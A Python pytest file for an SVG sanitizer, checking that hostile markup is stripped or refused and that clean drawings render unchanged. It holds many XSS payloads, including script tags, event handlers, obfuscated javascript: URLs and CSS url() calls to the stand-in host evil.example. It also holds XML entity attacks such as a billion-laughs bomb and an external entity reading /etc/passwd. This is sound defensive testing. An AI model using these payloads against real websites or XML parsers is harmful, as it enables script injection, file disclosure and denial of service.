"""Cleaning: hostile documents lose what is hostile, or are refused; drawings keep their looks."""

import io
import time

import numpy as np
import pytest
import resvg_py
from lxml import etree
from PIL import Image

from pastelka_common.errors import PermanentError
from pastelka_common.testing.fake_vectorizer import sample_svg
from pastelka_vectorize.svg import clean
from pastelka_vectorize.svg_allowed import allowed_value
from tests.patterns.growth import MOST_GROWTH, growth

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:ev="http://www.w3.org/2001/xml-events" xmlns:h="http://www.w3.org/1999/xhtml"'
    ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 9 9">'
)
SHAPE = '<path d="M0 0H9V9z"/>'

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    '<script href="http://evil.example/x.js"/>',
    '<script xlink:href="data:text/javascript,alert(1)"/>',
    "<script><![CDATA[alert(1)]]></script>",
    "<h:script>alert(1)</h:script>",
    '<g onload="alert(1)"/>',
    '<g OnLoad="alert(1)"/>',
    '<g ev:event="alert(1)"/>',
    '<path d="M0 0" onclick="alert(1)" onbegin="alert(1)"/>',
    '<a href="javascript:alert(1)"><path d="M0 0"/></a>',
    '<a xlink:href="java&#x09;script:alert(1)"><path d="M0 0"/></a>',
    '<a href="&#106;avascript&#58;alert(1)"><path d="M0 0"/></a>',
    '<foreignObject><h:body onload="alert(1)"><h:iframe src="http://evil.example"/></h:body></foreignObject>',
    '<use href="http://evil.example/x.svg#a"/>',
    '<use xlink:href="//evil.example/x.svg#a"/>',
    '<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#a"/>',
    '<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>',
    '<image xlink:href="http://evil.example/pixel.png"/>',
    '<feImage href="http://evil.example/pixel.png"/>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>path{fill:url(http://evil.example/x)}</style>",
    "<style>@IMPORT url(http://evil.example)</style>",
    "<style>path{fill:u\\72l(http://evil.example)}</style>",
    "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
    "<style>path{width:expression(alert(1))}</style>",
    '<style type="text/css">@font-face{src:url(//evil.example)}</style>',
    '<path d="M0 0" style="fill:url(http://evil.example/x)"/>',
    '<path d="M0 0" style="background:url(//evil.example/x)"/>',
    '<path d="M0 0" style="fill:url(&quot;javascript:alert(1)&quot;)"/>',
    '<path d="M0 0" style="behavior:url(#default#evil)"/>',
    '<path d="M0 0" style="width:expression(alert(1))"/>',
    '<path d="M0 0" style="-moz-binding:url(http://evil.example)"/>',
    '<path d="M0 0" style="fill:u\\rl(http://evil.example)"/>',
    '<path d="M0 0" fill="url(http://evil.example/x#a)"/>',
    '<path d="M0 0" fill="URL( http://evil.example/x )"/>',
    '<path d="M0 0" fill="image-set(\'http://evil.example\' 1x)"/>',
    '<path d="M0 0" filter="url(http://evil.example/f.svg#x)"/>',
    '<path d="M0 0" mask="url(http://evil.example/f.svg#x)"/>',
    '<path d="M0 0" cursor="url(http://evil.example/c.cur),auto"/>',
    '<a id="x"><set attributeName="href" to="javascript:alert(1)"/></a>',
    '<animate attributeName="xlink:href" values="javascript:alert(1)"/>',
    '<animate attributeName="href" from="http://evil.example" onbegin="alert(1)"/>',
    '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
    "<?xml-stylesheet href='http://evil.example/x.css'?>",
    "<!-- evil --><!--[if IE]><script>alert(1)</script><![endif]-->",
    '<inkscape:evil inkscape:label="alert(1)"/>',
    '<g inkscape:label="evil"/>',
    '<g xml:base="http://evil.example/"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<metadata><evil xmlns="urn:evil"/></metadata>',
    '<iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/>',
    '<h:img src="x" onerror="alert(1)"/>',
    '<switch systemLanguage="evil"><script>alert(1)</script></switch>',
    '<g class="&quot;evil&gt;&lt;script&gt;alert(1)"/>',
    '<g id="&quot; onload=&quot;alert(1)"/>',
    '<g data-evil="1" href="javascript:alert(1)" tabindex="1"/>',
]
TRACES = ("evil", "alert", "script", "import", "expression", "data:", "onload", "//", "<!--", "<?xml-")


def body_of(svg: bytes) -> str:
    """What was cleaned, without the declaration and the names of the two namespaces."""
    text = svg.decode().partition("?>")[2]
    return text.replace("http://www.w3.org/2000/svg", "").replace("http://www.w3.org/1999/xlink", "")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_parts_are_dropped(hostile):
    cleaned = body_of(clean(f"{HEAD}{hostile}{SHAPE}</svg>".encode()))
    assert SHAPE in cleaned
    assert not [trace for trace in TRACES if trace in cleaned.lower()]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_parts_are_dropped_deep_inside(hostile):
    cleaned = body_of(clean(f"{HEAD}<g><g>{SHAPE}{hostile}</g></g></svg>".encode()))
    assert SHAPE in cleaned
    assert not [trace for trace in TRACES if trace in cleaned.lower()]


def test_event_handlers_of_the_root_are_dropped():
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" viewBox="0 0 1 1">{SHAPE}</svg>'
    assert "alert" not in clean(svg.encode()).decode()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
REFUSED = {
    "billion laughs": f'<!DOCTYPE svg [<!ENTITY l0 "lol">{LAUGHS}]>{HEAD}<text>&l9;</text>{SHAPE}</svg>',
    "external entity": (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{HEAD}<text>&x;</text>{SHAPE}</svg>'
    ),
    "parameter entity": (
        f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;]>{HEAD}{SHAPE}</svg>'
    ),
    "quiet dtd": f'<!DOCTYPE svg [<!ATTLIST path onload CDATA "alert(1)">]>{HEAD}{SHAPE}</svg>',
    "unknown entity": f"{HEAD}<text>&nbsp;</text>{SHAPE}</svg>",
    "html": "<html><body/></html>",
    "svg without its namespace": '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>',
    "another namespace": '<svg xmlns="urn:evil" viewBox="0 0 1 1"><path d="M0 0"/></svg>',
    "cut off": f"{HEAD}{SHAPE}",
    "two roots": f"{HEAD}{SHAPE}</svg>{HEAD}</svg>",
    "empty": "",
    "json": '{"error": {}}',
    "no shape": f"{HEAD}<g/></svg>",
    "no path data": f'{HEAD}<path d=" "/></svg>',
    "shape in defs only": f"{HEAD}<defs>{SHAPE}</defs></svg>",
    "only a use of nothing": f'{HEAD}<use href="#nothing"/></svg>',
    "no size": f'<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="3em">{SHAPE}</svg>',
    "empty view box": f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 5">{SHAPE}</svg>',
    "infinite view box": f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 inf 5">{SHAPE}</svg>',
    "too deep": f"{HEAD}{'<g>' * 150}{SHAPE}{'</g>' * 150}</svg>",
    "much too deep": f"{HEAD}{'<g>' * 200_000}{SHAPE}{'</g>' * 200_000}</svg>",
    "too many": f"{HEAD}{SHAPE * 100_001}</svg>",
    "zero byte": f"{HEAD}<title>\0</title>{SHAPE}</svg>",
}


@pytest.mark.parametrize("svg", REFUSED.values(), ids=REFUSED.keys())
def test_refused(svg):
    started = time.thread_time()  # what a busy machine does not add to
    with pytest.raises(PermanentError) as caught:
        clean(svg.encode())
    assert caught.value.code == "provider_output_invalid"
    assert caught.value.message.startswith("The SVG cannot be used: ")
    assert time.thread_time() - started < 5


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_wide_encodings_are_refused(encoding):
    svg = f'<?xml version="1.0" encoding="UTF-16"?>{HEAD}<script>alert(1)</script>{SHAPE}</svg>'
    with pytest.raises(PermanentError, match="UTF-8"):
        clean(svg.encode(encoding))


def test_utf7_is_only_text():
    svg = f'<?xml version="1.0" encoding="UTF-7"?>{HEAD}<title>+ADw-script+AD4-</title>{SHAPE}</svg>'
    try:
        cleaned = clean(svg.encode()).decode()
    except PermanentError:
        return
    assert cleaned.startswith("<?xml version='1.0' encoding='UTF-8'?>")
    assert "<script" not in cleaned


def test_an_oversized_svg_is_rejected(monkeypatch):
    monkeypatch.setattr("pastelka_vectorize.svg.MAX_BYTES", 1 << 20)
    with pytest.raises(PermanentError, match="more than 1 MB"):
        clean(f"{HEAD}{SHAPE}{' ' * (1 << 20)}</svg>".encode())


def test_public_doctype_is_dropped():
    doctype = (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    )
    cleaned = clean(f'<?xml version="1.0"?>{doctype}{HEAD}{SHAPE}</svg>'.encode())
    assert b"DOCTYPE" not in cleaned


def test_local_references_stay():
    svg = (
        f'{HEAD}<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        '<path id="p" d="M0 0H1V1z"/></defs><use xlink:href="#p" x="2"/>'
        '<rect width="1" height="1" fill="url(#g)" style="stroke:url(#g)"/></svg>'
    )
    cleaned = clean(svg.encode()).decode()
    for kept in ('xlink:href="#p"', 'fill="url(#g)"', 'style="stroke:url(#g)"', "<linearGradient"):
        assert kept in cleaned


def test_use_elements_that_multiply_are_dropped():
    levels = "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    cleaned = clean(f'{HEAD}<g id="a0">{SHAPE}</g>{levels}</svg>'.encode())
    kept = etree.fromstring(cleaned)
    for use in kept.iter("{*}use"):
        target = kept.find(f".//*[@id='{use.get('href')[1:]}']")
        assert target.find(".//{*}use") is None
    uses = '<use href="#a"/>' * 1000
    many = clean(f'{HEAD}<g id="a">{SHAPE * 10_000}</g>{uses}</svg>'.encode())
    assert many.count(b"<use") < 11


def test_clips_of_clips_are_dropped():
    clips = "".join(
        f'<clipPath id="c{n}"><rect width="1" height="1" clip-path="url(#c{n + 1})"/></clipPath>'
        for n in range(5)
    )
    cleaned = clean(f'{HEAD}{clips}<rect width="9" height="9" clip-path="url(#c0)"/></svg>'.encode())
    assert cleaned.count(b"clip-path=") == 1


@pytest.mark.parametrize(
    ("size", "expected"),
    [
        ('width="20" height="10"', "0 0 20 10"),
        ('width="1in" height="2.54cm"', "0 0 96 96"),
        ('width="72pt" height="10.5px"', "0 0 96 10.5"),
        ('viewBox="1,2 3,4" width="9" height="9"', "1 2 3 4"),
        ('viewBox="nonsense" width="9" height="9"', "0 0 9 9"),
    ],
)
def test_the_view_box_is_derived_from_the_size(size, expected):
    cleaned = clean(f'<svg xmlns="http://www.w3.org/2000/svg" {size}>{SHAPE}</svg>'.encode())
    assert etree.fromstring(cleaned).get("viewBox") == expected


def test_cleaning_twice_changes_nothing():
    once = clean(f"{HEAD}<g fill='#000'>{SHAPE}<script/></g><text>a<tspan>b</tspan>c</text></svg>".encode())
    assert clean(once) == once
    assert b"<text>a<tspan>b</tspan>c</text>" in once


@pytest.mark.parametrize("prefix", ["", "s"])
def test_cleaning_does_not_change_the_rendering(prefix):
    svg = sample_svg({"output.group_by": "color"})
    if prefix:
        svg = svg.replace(b"<svg xmlns=", b"<s:svg xmlns:s=").replace(b"</svg", b"</s:svg")
        svg = svg.replace(b"<path", b"<s:path").replace(b"<g", b"<s:g").replace(b"</g", b"</s:g")
    assert (pixels(clean(svg)) == pixels(sample_svg({}))).all()


def test_plain_style_sheet_is_kept():
    svg = f'{HEAD}<style>.ink{{fill:#123456}}</style><path class="ink" d="M0 0H9V9z"/></svg>'
    assert pixels(clean(svg.encode())).any()
    assert b".ink{fill:#123456}" in clean(svg.encode())


def pixels(svg: bytes) -> np.ndarray:
    png = resvg_py.svg_to_bytes(svg_string=svg.decode(), width=100, height=100)
    return np.asarray(Image.open(io.BytesIO(png)).convert("RGBA"))


@pytest.mark.parametrize("unit", ["a", "a(", "-", "url(", " ", "url(#a ", "rgb ("])
def test_a_value_takes_linear_time(unit: str):
    assert growth(lambda size: allowed_value("fill", unit * size)) <= MOST_GROWTH
    assert growth(lambda size: allowed_value("style", f"fill:{unit * size}")) <= MOST_GROWTH


@pytest.mark.parametrize("value", ["evil(1)", "xrgb(1,2,3)", "1rgb-(1)", "rgb(1) a (2)", "RGB (0,0,0) b("])
def test_a_disallowed_function_is_rejected_at_any_position(value: str):
    assert allowed_value("fill", value) is None
